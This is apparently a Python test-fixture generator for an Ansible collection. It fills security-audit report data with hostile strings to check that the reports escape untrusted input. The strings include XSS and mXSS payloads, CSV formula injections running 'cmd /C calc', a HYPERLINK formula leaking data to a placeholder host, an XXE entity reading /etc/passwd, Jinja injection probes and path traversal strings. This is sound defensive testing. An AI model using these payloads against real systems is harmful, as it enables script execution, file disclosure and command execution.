# -*- coding: utf-8 -*-
# Copyright: ncloud.wbd contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Writes tests/sandbox/fixtures/hostile.json and this target's inventory.json (both committed).

    python make_hostile_fixture.py FIXTURE_OUT INVENTORY_OUT

Every text field that reaches a report carries hostile text. A payload that could run script
sets a DOM marker (document.title or a ``data-wbdpwn`` body attribute) and logs a console
marker; the markers are assembled at run time ('WBD'+'PWN', 'data-'+'wbdpwn'), so the literal
strings WBDPWN and data-wbdpwn appear nowhere in the data: finding one in a rendered page or a
console log proves that a payload ran. Deterministic: running it again gives the same bytes.
"""

import json
import sys

MARK = "'WBD'+'PWN'+'_%s'"


def js(tag):
    """Script that leaves both markers: console line and document title."""
    return "console.log(%s);document.title=%s" % (MARK % tag, MARK % tag)


def attr_js(tag):
    """Script that leaves the body-attribute marker and a console line (no quotes of its own kind inside)."""
    return "document.body.setAttribute('data-'+'wbdpwn','%s');console.log(%s)" % (tag, MARK % tag)


# Payloads that would run script if a renderer let markup through: (tag, text).
SCRIPT_PAYLOADS = [
    ('script', "<script>%s</script>" % js('script')),
    ('img_onerror', '<img src=x onerror="%s">' % attr_js('img_onerror')),
    ('svg_onload', '<svg onload="%s">' % js('svg_onload')),
    ('svg_script', '<svg><script>%s</script></svg>' % js('svg_script')),
    ('svg_breakout', '</text></title></g></svg><img src=x onerror="%s">' % attr_js('svg_breakout')),
    ('svg_animate', '<svg><animate onbegin="%s" attributeName=x dur=1s>' % js('svg_animate')),
    ('svg_foreign', '<svg><foreignObject><img src=x onerror="%s"></foreignObject></svg>' % attr_js('svg_foreign')),
    ('attr_dq', '"><img src=x onerror="%s">' % attr_js('attr_dq')),
    ('attr_sq', "'><svg/onload=console.log(%s)>" % (MARK % 'attr_sq')),
    ('attr_unquoted', ' autofocus onfocus=console.log(%s) onmouseover=console.log(%s) x=' % (MARK % 'attr_uq', MARK % 'attr_uq')),
    ('js_iframe', '<iframe src="javascript:parent.%s"></iframe>' % js('js_iframe')),
    ('js_link', '<a href="javascript:%s">open</a>' % js('js_link')),
    ('js_bare', 'javascript:%s//' % js('js_bare')),
    ('data_iframe', '<iframe src="data:text/html,<script>parent.%s</script>"></iframe>' % js('data_iframe')),
    ('srcdoc', '<iframe srcdoc="<script>parent.%s</script>"></iframe>' % js('srcdoc').replace("'", '&#39;')),
    ('object', '<object data="javascript:%s"></object><embed src="javascript:%s">' % (js('object'), js('embed'))),
    ('meta_refresh', '<meta http-equiv="refresh" content="0;url=javascript:%s">' % js('meta_refresh')),
    ('base', '<base href="javascript:%s//">' % js('base')),
    ('body_onload', '<body onload="%s">' % attr_js('body_onload')),
    ('details', '<details open ontoggle="%s">' % attr_js('details')),
    ('style_breakout', '</style><script>%s</script><style>' % js('style_breakout')),
    ('comment_breakout', '--><script>%s</script><!--' % js('comment_breakout')),
    ('cdata_breakout', ']]><script>%s</script><![CDATA[' % js('cdata_breakout')),
    ('title_breakout', '</title><script>%s</script>' % js('title_breakout')),
    ('textarea_breakout', '</textarea></noscript><script>%s</script>' % js('textarea_breakout')),
    ('noscript_mxss', '<noscript><p title="</noscript><img src=x onerror=%s>">' % attr_js('noscript_mxss').replace("'", '`')),
    ('math_mxss', '<math><mtext><table><mglyph><style><img src=x onerror="%s">' % attr_js('math_mxss')),
    ('entity_double', '&lt;script&gt;%s&lt;/script&gt;' % js('entity_double')),
    ('template_tag', '<template><img src=x onerror="%s"></template><img src=x onerror="%s">' % (attr_js('template'), attr_js('template2'))),
    ('form_action', '<form action="javascript:%s"><button>go</button></form>' % js('form_action')),
]

# CSV formula payloads (OWASP): a cell starting with = + - @ TAB or CR.
CSV_PAYLOADS = [
    ('csv_eq', "=cmd|' /C calc'!A0"),
    ('csv_plus', '+HYPERLINK("http://example.invalid/?leak="&A1,"click")'),
    ('csv_minus', "-2+3+cmd|' /C calc'!A0"),
    ('csv_at', "@SUM(1+9)*cmd|' /C calc'!A0"),
    ('csv_tab', "\t=1+1+cmd|' /C calc'!A0"),
    ('csv_cr', "\r=1+1+cmd|' /C calc'!A0"),
]

# Text that breaks XML or terminals, lies about its order, or tries template / format injection.
TEXT_PAYLOADS = [
    ('xml_cdata_end', 'a]]>b]]]]><![CDATA[c'),
    ('xml_amp', 'x & y &amp; &e; &#0; &#xFFFE; &bogus; <![CDATA[ ]]>'),
    ('xml_doctype', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ('controls', 'nul\u0000soh\u0001bs\u0008vt\u000bff\u000cso\u000eus\u001fdel\u007fc1\u0080nel\u0085csi\u009bend'),
    ('nonchars', 'fffe\ufffe ffff\uffff fdd0\ufdd0 1fffe\U0001fffe 10ffff\U0010ffff bom\ufeff'),
    ('ansi', 'red\u001b[31m\u001b[2J\u001b]0;pwned-title\u0007\u001b]8;;http://example.invalid\u0007link\u001b]8;;\u0007'),
    ('rtl', 'invoice\u202efdp.php \u2066isolate\u2069 \u2067r\u2069 \u200fmark \u061calm'),
    ('rtl_file', '/var/www/html/upload/\u202egnp.php'),
    ('newlines', 'line1\nline2\r\nline3\rline4\u2028ls\u2029ps\u000bvt'),
    ('jinja', "{{ lookup('ansible.builtin.env', 'WBD_HOSTILE_CANARY') }} {{ 40000 + 2 }} {% if true %}jinja-if{% endif %} {# c #}"),
    ('jinja_unsafe', "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ lookup('ansible.builtin.pipe', 'echo WBD''PWN_pipe') }}"),
    ('format', '%s %d %(host)s %n {0} {host} {{}} %%'),
    ('markdown', '[click](javascript:alert(1)) ![i](http://example.invalid/x.png) | a | b | `code` **b** <u>u</u> ~~s~~ \\|'),
    ('traversal', '../../../../etc/passwd\\..\\..\\windows\\win.ini'),
    ('unicode', 'zero\u200bwidth e\u0301\u0301\u0301 \U0001f4a9 \uff1cscript\uff1e \u3008x\u3009 \u00a0nbsp'),
]

S, C, T = dict(SCRIPT_PAYLOADS), dict(CSV_PAYLOADS), dict(TEXT_PAYLOADS)
BIG_UNIT = S['script'] + ' ' + S['img_onerror'] + " =cmd|' /C calc'!A0 ]]> & \u202e\u0000 "
BIG = (BIG_UNIT * (100000 // len(BIG_UNIT) + 1))[:100003]
ALL = SCRIPT_PAYLOADS + CSV_PAYLOADS + TEXT_PAYLOADS


def pick(n, offset=0):
    """The n-th payload text of the rotation (deterministic), a different one per offset."""
    return ALL[(n * 7 + offset) % len(ALL)][1]


def mixed(n):
    """A script payload, a CSV payload and a text payload in one value (the script one first, so cut cells keep it)."""
    return '%s %s %s' % (SCRIPT_PAYLOADS[n % len(SCRIPT_PAYLOADS)][1], CSV_PAYLOADS[n % len(CSV_PAYLOADS)][1], TEXT_PAYLOADS[n % len(TEXT_PAYLOADS)][1])


# Inventory host names Ansible accepts ('[' would start a host range, ':' a port); matched by instance number.
HOSTS = [
    ("=cmd|' /C calc'!A0", '30000001'),
    ('+HYPERLINK("http://example.invalid/?x="&A1)', '30000002'),
    ("-2+3+cmd|' /C calc'!A0", '30000003'),
    ("@SUM(1+9)*cmd|' /C calc'!A0", '30000004'),
    ('\t=1+1 tab', '30000005'),
    ('\r=1+1 cr', '30000006'),
    ('<img src=x onerror="%s">' % attr_js('host_img'), '30000007'),
    ('"><svg/onload=console.log(%s)>' % (MARK % 'host_svg'), '30000008'),
    ('</text></g><script>%s</script>' % js('host_script'), '30000009'),
    ('a]]>&amp;&b<!--x', '30000010'),
    ('x\u202eexe.php', '30000011'),
    ('ctl\u0000nul\u0001\u007f\u0085\ufffe', '30000012'),
    ('</script><script>%s</script>' % js('host_unregistered'), None),
]


def servers():
    out = []
    for n, (_host, instance) in enumerate(h for h in HOSTS if h[1]):
        out.append(
            {
                'instanceNo': instance,
                'serverName': BIG if n == 2 else T['ansi'] + S['attr_sq'] if n == 1 else pick(n, 1),
                'serverGroupId': '4000000%d' % (n % 3),
                'serverGroupName': pick(n, 2),
                'ipAddress': '10.9.0.%d' % (n + 1),
                'memo': pick(n, 3),
                'agentStatus': '<svg onload="%s">' % js('agent_status') if n == 1 else 'enable',
                'wasConfigList': [{'webRootPath': pick(n, 4), 'fileUploadPath': pick(n, 5)}],
            }
        )
    # Registered but in no inventory: the target of the over-broad rule (which must not make an inventory host compliant).
    out.append({'instanceNo': '30000099', 'serverName': S['details'], 'serverGroupName': C['csv_at'], 'ipAddress': '10.9.0.99'})
    return out


def detection(n, instance, server_name, *, age, big=False, confirmed=False, prefix='2026110100000000005'):
    return {
        'detectionId': '%s%03d' % (prefix, n),
        'instanceNo': instance,
        'serverName': server_name,
        'hostName': pick(n, 6),
        'privateIPofServer': '10.9.0.%d' % (n % 250 + 1),
        'containerName': pick(n, 7),
        'detectTime': age,
        'actionStatus': 'confirmed' if confirmed else 'blank',
        'processName': SCRIPT_PAYLOADS[n % len(SCRIPT_PAYLOADS)][1],
        'processArg': BIG if big else mixed(n),
        'command': mixed(n + 1),
        'executor': ALL[n % len(ALL)][1],
        'processNameOfParent': pick(n, 8),
        'processArgOfParent': pick(n, 9),
        'executorOfParent': pick(n, 10),
        'memo': BIG if big else pick(n, 11),
        'uid': pick(n, 12),
        'suspicionFiles': [
            {
                'suspicionFileId': '%s%03d' % ('2026110100000000006', n),
                'fileOriginName': BIG if big else pick(n, 13) + T['rtl_file'],
                'fileOwner': pick(n, 14),
                'weight': 95 if n % 2 == 0 else 40,
                'hashScanResult': 'malware' if n % 3 == 0 else 'notMalware',
                'status': 'detected',
                'memo': pick(n, 15),
            }
        ],
        'suspicionIps': [{'suspicionIpId': '%s%03d' % ('2026110100000000007', n), 'suspicionIp': '203.0.113.%d' % (n % 250 + 1), 'country': pick(n, 16)}],
    }


def detections(registered):
    registered = [s for s in registered if s['instanceNo'] != '30000099']
    out = []
    count = max(len(ALL), 2 * len(registered))
    for n in range(count):
        server = registered[n % len(registered)]
        name = server['serverName'] if n % 4 and server['serverName'] is not BIG else pick(n, 17)
        out.append(detection(n, server['instanceNo'], name, age='-%dh' % (n + 1), big=(n == 5), confirmed=(n % 11 == 10)))
    # From a server that is not a detection target: unmatched, named in the findings and the HTML.
    for n in range(count, count + 4):
        out.append(detection(n, '39999999', mixed(n), age='-%dm' % (n + 1)))
    return out


def exceptions(registered):
    registered = [s for s in registered if s['instanceNo'] != '30000099']
    out = []
    for n in range(3):
        record = detection(900 + n, registered[n]['instanceNo'], pick(n, 20), age='-%dh' % (n + 2), prefix='2026110100000000008')
        record['processName'] = '/usr/bin/' + S['script']
        out.append(record)
    return out


def rules():
    conditions = [
        ('processName', 'START', '/usr/bin/' + S['script']),
        ('processArg', 'END', S['img_onerror']),
        ('executor', 'EQUAL', C['csv_eq']),
        ('processNameOfParent', 'START', T['xml_cdata_end']),
        ('processArgOfParent', 'EQUAL', T['newlines']),
        ('executorOfParent', 'END', S['svg_breakout']),
    ]
    out = [
        {
            'exceptedRuleId': '2026110100000000009001',
            'exceptedRuleName': S['svg_onload'],
            'createdTime': '-30d',
            'exceptTargetType': 'everyServer',
            'processName': conditions[0][2],
            'processNameCondition': 'START',
            'memo': pick(1, 18),
        },
        {
            'exceptedRuleId': '2026110100000000009002',
            'exceptedRuleName': mixed(3),
            'createdTime': '-20d',
            'exceptTargetType': 'server',
            'exceptTarget': '30000099',
            'exceptTargetName': S['svg_animate'],
            'memo': pick(2, 18),
        },
        {
            'exceptedRuleId': '2026110100000000009003',
            'exceptedRuleName': T['controls'] + C['csv_plus'],
            'createdTime': '-10d',
            'exceptTargetType': 'serverGroup',
            'exceptTarget': '49999999',
            'exceptTargetName': S['svg_foreign'] + T['rtl'],
            'groupIsDeleted': True,
            'processName': S['attr_dq'],
            'processNameCondition': 'EQUAL',
        },
        {
            'exceptedRuleId': '2026110100000000009004',
            'exceptedRuleName': BIG,
            'createdTime': '-5d',
            'disabled': True,
            'exceptTargetType': 'server',
            'exceptTarget': '30000002',
            'processName': 'sh',
            'processNameCondition': 'END',
        },
    ]
    six = {
        'exceptedRuleId': '2026110100000000009005',
        'exceptedRuleName': T['jinja'],
        'createdTime': '-3d',
        'exceptTargetType': 'serverGroup',
        'exceptTarget': '40000001',
        'exceptTargetName': pick(5, 19),
    }
    for field, condition, value in conditions:
        six[field], six[field + 'Condition'] = value, condition
    out.append(six)
    return out


def build():
    registered = servers()
    fixture = {
        '_about': (
            'Hostile audit dataset (generated by tests/integration/targets/wbd_hostile_reports/files/make_hostile_fixture.py; '
            'edit that script, not this file). Every text field that reaches a report carries script, SVG, javascript: URL, '
            'CSV formula, XML-breaking, control, noncharacter, bidi, template and 100 kB payloads (no lone surrogates: the '
            'sandbox cannot serve them yet). A payload '
            'that runs leaves the marker WBD+PWN (joined) in document.title or the console, or a data-+wbdpwn body attribute; '
            'the joined markers occur nowhere in this file.'
        ),
        'servers': registered,
        'detections': detections(registered),
        'exceptions': exceptions(registered),
        'exception-rules': rules(),
        'deleted-exception-rules': [
            {'exceptedRuleId': '2026110100000000009006', 'exceptedRuleName': S['svg_script'], 'createdTime': '-40d', 'deletedTime': '-20d'}
        ],
    }
    inventory = {
        'all': {
            'vars': {'ansible_connection': 'local'},
            'hosts': dict((name, {'webshell_audit_instance_no': instance} if instance else {}) for name, instance in HOSTS),
        }
    }
    return fixture, inventory


def main(argv):
    if len(argv) != 3:
        sys.stderr.write(__doc__)
        return 2
    fixture, inventory = build()
    for path, data in ((argv[1], fixture), (argv[2], inventory)):
        with open(path, 'w', encoding='ascii') as handle:
            json.dump(data, handle, indent=1, sort_keys=True, ensure_ascii=True)
            handle.write('\n')
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
